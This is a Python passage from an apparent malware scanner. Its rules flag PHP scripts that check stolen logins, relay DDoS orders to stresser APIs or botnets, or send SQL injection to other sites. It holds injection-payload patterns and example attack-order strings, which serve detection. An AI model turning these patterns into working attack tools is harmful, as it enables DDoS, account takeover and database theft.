    """Logins tried one after another: inside a loop, a login function (IMAP, FTP, SSH,
    LDAP, MySQL, WordPress) given a password that comes from request input (a posted or
    uploaded list of user:password lines, split in the loop): a checker of stolen accounts.
    A mail or backup client logs in with the accounts of its own settings."""
    calls = calls_to(ctx, tuple(_LOGIN_PASSWORD_ARG), 50)
    if not calls:
        return None
    req = taint(ctx)[0]
    if not req:
        return None
    code = ctx.code
    for start, args in calls:
        name = next(n for n in _LOGIN_PASSWORD_ARG if code.startswith(n, start))
        parts = top_args(args)
        idx = _LOGIN_PASSWORD_ARG[name]
        if len(parts) <= idx:
            continue
        used = set(VAR.findall(interpolated(ctx, parts[idx])))
        if not used & req:
            continue
        # inside a loop: a loop head before it whose braced body holds the call
        for m in itertools.islice(_LOGIN_LOOP_HEAD.finditer(code, max(0, start - 3000), start), 20):
            head_end = m.end() + close_paren(code[m.end() : m.end() + 2000])
            brace = find(code, b"{", head_end, head_end + 4)
            if brace < 0 or brace > start:
                continue
            if brace + len(braced(code, brace)) >= start:
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


_API_FETCHES = (b"file_get_contents", b"curl_init", b"get_headers", b"wp_remote_get",
                b"wp_remote_post")  # fmt: skip
# the three parts of an attack order in a query: a target, a port, a duration; each value a
# variable, glued or interpolated, as it is or through one call (urlencode($host))
_ORDER_VALUE = rb"[\s.'\"{]*(?:\(\s*int\s*\)\s*)?(?:\w+\s*\(\s*)?\$(" + NAME_P + rb")"
_ORDER_KEYS = (
    tight(rb"[?&](?:host|ip|target|victim)=" + _ORDER_VALUE),
    tight(rb"[?&](?:port|dport)=" + _ORDER_VALUE),
    tight(rb"[?&](?:time|duration|seconds|secs)=" + _ORDER_VALUE),
)


def _url_text(ctx: Ctx, expr: bytes, depth: int = 2) -> bytes:
    """A web address expression as text: each literal's own text (single- or double-quoted),
    and a variable replaced by what the file sets it to (``depth`` levels)."""
    raw = ctx.lx.raw_strings
    text = PLACEHOLDER.sub(lambda m: b" " + raw[int(m.group(1))][:600].lower() + b" ", expr)
    v = VAR.fullmatch(expr.strip().lstrip(b"@").strip())
    if v is not None and depth > 0:
        sets = var_assigns(ctx.code, v.group(1), TAIL_RHS, 3)
        text = b" ".join([text] + [_url_text(ctx, am.group(1), depth - 1) for _, am in sets])
    return text


@feature("attack_api_call")
def _attack_api_call(ctx: Ctx, rule: Rule) -> Hit | None:
    """A web request to a literal address whose query carries a target host, a port and a
    duration that the visitor sends (``https://api.example/attack?key=K&host=$host&port=$port
    &time=$time&method=$method``, each from the posted JSON): the page passes the visitor's
    attack order on to a DDoS stresser's API (the web form of a booter). A status check
    sends a host and a port and a timeout, never how long to go on."""
    if not has_request_words(ctx):
        return None
    calls = list(calls_to(ctx, _API_FETCHES, 50))
    for m in itertools.islice(_CURL_URL.finditer(ctx.code), 10):
        calls.append((m.start(), expression(ctx.code[m.end() : m.end() + 600])))
    for start, args in calls:
        parts = top_args(args)
        if ctx.code.startswith(b"curl_setopt", start):
            parts = [args]
        if not parts:
            continue
        text = _url_text(ctx, parts[0])
        if find(text, b"http") < 0:
            continue
        got = []
        for rx in _ORDER_KEYS:
            k = rx.search(text)
            if k is None:
                break
            got.append(k.group(1))
        if len(got) == 3 and all(_from_visitor(ctx, b"$" + v) for v in got):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# an SQL injection written out: a quote or bracket closed, then UNION SELECT; a database
# function that reads or writes the server's files; stacked commands of SQL Server
_SQLI_PAYLOAD = tight(
    rb"['\")\]]\s*\)*\s*union\s+(?:all\s+)?select\b|\b(?:pg_read_file|pg_ls_dir|load_file)\s*\("
    rb"|\binto\s+(?:outfile|dumpfile)\s+'|;\s*exec\s+(?:master\.\.)?xp_cmdshell\b"
)
_SENDS = (b"curl_exec", b"curl_multi_exec", b"stream_context_create", b"fsockopen")
# the site itself, or a database the script queries
_OWN_SITE = tight(
    rb"\$_server\s*\[\s*\x01\d+\x01\s*\]|\b(?:home_url|site_url|admin_url|get_site_url)\s*\("
    rb"|\b(?:mysqli?_query|pg_query|sqlite_query|mssql_query|sqlsrv_query|db2_exec|oci_parse)\s*\("
    rb"|->\s*(?:query|prepare|exec|get_results|get_var|get_row)\s*\("
)


@feature("sqli_exploit_sender")
def _sqli_exploit_sender(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script that sends SQL injection to another site: a literal that breaks out of a
    quoted value and appends UNION SELECT, or calls a database function that reads the
    server's files (``pg_read_file('...clients.json')``, ``LOAD_FILE()``, ``INTO OUTFILE``,
    ``xp_cmdshell``), in a file that makes web requests (curl, a POST stream context, a raw
    socket) and neither queries a database of its own nor talks to its own site: an exploit
    run from the hacked account against the next target. A database tool runs its SQL
    itself; a firewall's self-test sends its probes to its own address."""
    if not calls_to(ctx, _SENDS, 1):
        return None
    lx = ctx.lx
    hit = -1
    for i in range(min(len(lx.raw_strings), 5000)):
        raw = lx.raw_strings[i]
        if len(raw) < 12 or len(raw) > 4000:
            continue
        if _SQLI_PAYLOAD.search(raw.lower()) is not None:
            hit = i
            break
    if hit < 0 or _OWN_SITE.search(ctx.code) is not None:
        return None
    at = find(ctx.code, b"\x01%d\x01" % hit)
    return Hit(ctx.line_of_code(max(at, 0)), excerpt(lx.value(hit)))


# $s = fsockopen('<literal address>', ...): a connection to a server of the script's own
_SOCKET_TO_LITERAL = tight(
    rb"\$([\w\x80-\xff]+)\s*=\s*@?\s*(?:p?fsockopen|stream_socket_client)\s*\(\s*\x01(\d+)\x01"
)
# the text of a mail or web exchange: an SMTP session, an HTTP request, a header block
_CLIENT_PROTOCOL = tight(
    rb"\bhttp/1\.|\bhelo\b|\behlo\b|mail from|rcpt to|subject:|\n\s*\n|^\s*(?:get|post|head) /",
    re.MULTILINE,
)


@feature("attack_order_relay")
def _attack_order_relay(ctx: Ctx, rule: Rule) -> Hit | None:
    """A connection opened to an address written in the script (``fsockopen('1.2.3.4',
    23)``), logged into with lines of the script's own (a user name, a password), then sent
    one line that carries three or more values of the visitor's request (``fwrite($s, "!*
    UDP {$host} {$port} {$time}\\n")``: a target, a port, a duration): the page relays the
    visitor's attack order to a botnet's command server (the "API" of a stresser). A metrics
    client sends its line without a login; mail and web clients speak their protocol."""
    code = ctx.code
    opened = {m.group(1) for m in itertools.islice(_SOCKET_TO_LITERAL.finditer(code), 20)}
    if not opened or not has_request_words(ctx):
        return None
    logged_in: set[bytes] = set()  # handles written a line of the script's own already
    for start, args in calls_to(ctx, (b"fwrite", b"fputs", b"socket_write"), 50):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        h = VAR.fullmatch(parts[0].strip())
        if h is None or h.group(1) not in opened:
            continue
        text = interpolated(ctx, parts[1])
        plain = text.replace(b"\\r", b"\r").replace(b"\\n", b"\n")
        if _CLIENT_PROTOCOL.search(plain) is not None:
            continue
        names = sorted(set(VAR.findall(text)))
        if not names:
            logged_in.add(h.group(1))
            continue
        if h.group(1) not in logged_in or len(names) < 3:
            continue
        # numbers count too: a port and a duration are values of the visitor's order
        if sum(1 for v in names[:8] if _from_visitor(ctx, b"$" + v)) >= 3:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None
